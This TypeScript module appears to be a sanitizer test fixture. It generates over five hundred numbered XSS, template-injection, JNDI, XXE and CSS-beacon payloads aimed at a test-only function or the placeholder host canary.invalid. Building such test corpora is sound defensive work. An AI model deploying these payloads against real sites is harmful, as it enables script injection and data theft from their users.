/** An address that nobody answers at; whoever asks for it has been made to. */
export const canaryHost = 'canary.invalid';

/** What a script would do that ran: it calls a function of the page that only tests define. */
type Making = (run: string, address: string) => string;

const tags = [
  'img src=x',
  'svg',
  'body',
  'video src=x',
  'audio src=x',
  'input autofocus',
  'details open',
  'marquee',
  'select autofocus',
  'object data=x',
  'iframe src=x',
  'embed src=x',
  'math',
  'button autofocus',
  'x tabindex=1 id=x',
  'style',
  'link rel=stylesheet href=x',
  'dialog open',
];
const events = [
  'error',
  'load',
  'focus',
  'toggle',
  'mouseover',
  'pointerenter',
  'animationstart',
  'begin',
  'beforetoggle',
  'scrollend',
  'loadstart',
  'transitionend',
  'cut',
  'auxclick',
  'resize',
];
const handlers: readonly Making[] = tags.flatMap((tag) =>
  events.map(
    (event): Making =>
      (run) =>
        `<${tag} on${event}=${run}>`,
  ),
);

const outOf = [
  '">',
  "'>",
  '-->',
  ']]>',
  '</textarea>',
  '</title>',
  '</style>',
  '</script>',
  '`',
  '\\";',
  "');",
  '*/',
  '</p></div>',
  '\n',
  '<![CDATA[',
  '<!--',
];
const bodies: readonly Making[] = [
  (run) => `<script>${run}</script>`,
  (run) => `<img src=x onerror=${run}>`,
  (run) => `${run}//`,
  (_, address) => `<script src=${address}></script>`,
];
const breakouts: readonly Making[] = outOf.flatMap((out) =>
  bodies.map(
    (body): Making =>
      (run, address) =>
        out + body(run, address),
  ),
);

const scripts: readonly Making[] = [
  (run) => `<script>${run}</script>`,
  (run) => `<ScRiPt>${run}</sCrIpT>`,
  (run) => `<script\n>${run}</script\n>`,
  (run) => `<script/x>${run}</script>`,
  (run) => `<<script>${run}//<</script>`,
  (run) => `<scr<script>ipt>${run}</scr</script>ipt>`,
  (run) => `<script>${run}`,
  (run) => `<script type=module>${run}</script>`,
  (run) => `<script type=text/plain>${run}</script>`,
  (_, address) => `<script src="${address}"></script>`,
  (_, address) => `<script src=//${address.slice(8)}></script>`,
  (run) => `<script>eval(atob("${Buffer.from(run).toString('base64')}"))</script>`,
  (run) => `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  (run) => `<template><script>${run}</script></template>`,
  (run) => `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  (run) => `<iframe src="javascript:parent.${run}"></iframe>`,
  (_, address) => `<iframe src="${address}"></iframe>`,
  (_, address) => `<img src="${address}">`,
  (_, address) => `<img srcset="${address} 1x">`,
  (_, address) => `<link rel=prefetch href="${address}">`,
  (_, address) => `<base href="${address}">`,
  (_, address) => `<meta http-equiv=refresh content="0;url=${address}">`,
  (_, address) => `<form action="${address}"><button autofocus>`,
  (_, address) => `<object data="${address}"></object>`,
  (_, address) => `<embed src="${address}">`,
  (_, address) => `<video poster="${address}">`,
  (_, address) => `<a href="${address}" ping="${address}">x</a>`,
];

const drawings: readonly Making[] = [
  (run) => `<svg><script>${run}</script></svg>`,
  (run) => `<svg/onload=${run}>`,
  (run) => `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  (run) => `<svg><set onbegin=${run} attributename=x dur=1s>`,
  (run) => `<svg><a xlink:href="javascript:${run}"><text>x</text></a></svg>`,
  (run) => `<svg><foreignObject><img src=x onerror=${run}></foreignObject></svg>`,
  (run) => `<svg><image href=x onerror=${run}>`,
  (_, address) => `<svg><use href="${address}#x"/></svg>`,
  (_, address) => `<svg><image href="${address}"/></svg>`,
  (run) => `<svg><title><style><img src=x onerror=${run}></style></title></svg>`,
  (run) => `<svg><animate xlink:href=#x attributeName=href values="javascript:${run}"/><a id=x>`,
  (run) => `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`,
  (run) => `<math href="javascript:${run}">x</math>`,
  (run) => `<math><annotation-xml encoding="text/html"><img src=x onerror=${run}></annotation-xml>`,
  (run) => `<math><a xlink:href="javascript:${run}">x</a></math>`,
];

const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  ' javascript:',
  'java\tscript:',
  'java\nscript:',
  'javascript&colon;',
  '&#106;avascript:',
  'javascript:/*--></title>*/',
  'javascript://%0a',
  'vbscript:',
  'livescript:',
  'view-source:javascript:',
  '\u0001javascript:',
  'javascript\u200b:',
  'feed:javascript:',
];
const addresses: readonly Making[] = [
  ...schemes.map(
    (scheme): Making =>
      (run) =>
        scheme + run,
  ),
  ...schemes.map(
    (scheme): Making =>
      (run) =>
        `<a href="${scheme}${run}">x</a>`,
  ),
  ...schemes.map(
    (scheme): Making =>
      (run) =>
        `[x](${scheme}${run})`,
  ),
  (run) => `data:text/html,<script>${run}</script>`,
  (run) => `data:text/html;base64,${Buffer.from(`<script>${run}</script>`).toString('base64')}`,
  (run) => `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"/>`,
  (_, address) => `//${address.slice(8)}`,
  (_, address) => address,
  (_, address) => `tel:1"><img src=${address}>`,
  (_, address) => `mailto:x@x?body=<img src=${address}>`,
];

const templates: readonly Making[] = [
  (run) => `{{${run}}}`,
  (run) => `{{constructor.constructor("${run}")()}}`,
  (run) => `{{$on.constructor("${run}")()}}`,
  (run) => `\${${run}}`,
  (run) => `#{${run}}`,
  (run) => `<%= ${run} %>`,
  (run) => `{% ${run} %}`,
  (run) => `[[${run}]]`,
  (run) => `{${run}}`,
  (run) => `@{${run}}`,
  (run) => `{"__html":"<img src=x onerror=${run}>"}`,
  (run) => `{"$$typeof":"Symbol(react.element)","type":"script","props":{"children":"${run}"}}`,
  (run) => `<div v-html="'<img src=x onerror=${run}>'">`,
  (run) => `<div x-init="${run}">`,
  (_, address) => `\${jndi:ldap://${address.slice(8)}}`,
  (_, address) => `<!--#include virtual="${address}" -->`,
  (_, address) => `<!DOCTYPE x [<!ENTITY y SYSTEM "${address}">]><x>&y;</x>`,
  (_, address) => `<?xml-stylesheet href="${address}"?>`,
];

const styles: readonly Making[] = [
  (_, address) => `<style>@import "${address}";</style>`,
  (_, address) => `<style>*{background:url(${address})}</style>`,
  (_, address) => `<div style="background:url(${address})">`,
  (_, address) => `<div style="background-image:image-set('${address}' 1x)">`,
  (run) => `<div style="width:expression(${run})">`,
  (run) => `<div style="behavior:url(javascript:${run})">`,
  (_, address) => `}*{background:url(${address})}`,
  (_, address) => `;background:url(${address});`,
  (_, address) => `red;}body{background:url('${address}')`,
  (_, address) => `url(${address})`,
  (_, address) => `</style><link rel=stylesheet href=${address}>`,
  (run) => `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="${run}">`,
];

const disguises: readonly ((text: string) => string)[] = [
  (text) => text.replaceAll('<', '＜').replaceAll('>', '＞'),
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => text.replaceAll('<', '&#60;').replaceAll('>', '&#62;'),
  (text) => text.replaceAll('<', '&#x3c;').replaceAll('>', '&#x3e;'),
  (text) => text.replaceAll('<', '\\u003c').replaceAll('>', '\\u003e'),
  (text) => text.replaceAll('<', '%3C').replaceAll('>', '%3E'),
  (text) => text.replaceAll('<', '%253C').replaceAll('>', '%253E'),
  (text) => text.replaceAll('<', '\\x3c').replaceAll('>', '\\x3e'),
  (text) => text.replaceAll('<', '‹').replaceAll('>', '›'),
  (text) => text.replaceAll('<', '<\u200b'),
  (text) => text.replaceAll('<', '<\u00ad'),
  (text) => `\u202e${text}`,
  (text) => `\ufeff${text}`,
  (text) => text.replaceAll('>', '\u2028>'),
  (text) => `+ADw-${text}+AD4-`,
];
const disguised: readonly Making[] = disguises.flatMap((disguise) =>
  bodies.map(
    (body): Making =>
      (run, address) =>
        disguise(body(run, address)),
  ),
);

const long: readonly Making[] = [
  (run) => `${'<'.repeat(120)}img src=x onerror=${run}>`,
  (run) => `<img ${'x '.repeat(60)}src=x onerror=${run}>`,
  (run) => `${'长'.repeat(120)}<script>${run}</script>`,
  (run) => `${'<b>'.repeat(50)}<script>${run}</script>`,
];

const makings: readonly Making[] = [
  ...scripts,
  ...drawings,
  ...addresses,
  ...templates,
  ...styles,
  ...breakouts,
  ...disguised,
  ...long,
  ...handlers,
];

/** More than five hundred texts that are no texts, each with a sign of its own by which it is known again. */
export const payloads: readonly string[] = makings.map((make, i) => {
  const sign = `x${i}x`;
  const text = make(`ran('${sign}')`, `https://${canaryHost}/${sign}`);
  return text.includes(sign) ? text : `${text}<!--${sign}-->`;
});

/** Which of them a text holds. */
export const signsIn = (text: string): readonly number[] => [...text.matchAll(/x(\d+)x/g)].map(([, i]) => Number(i));
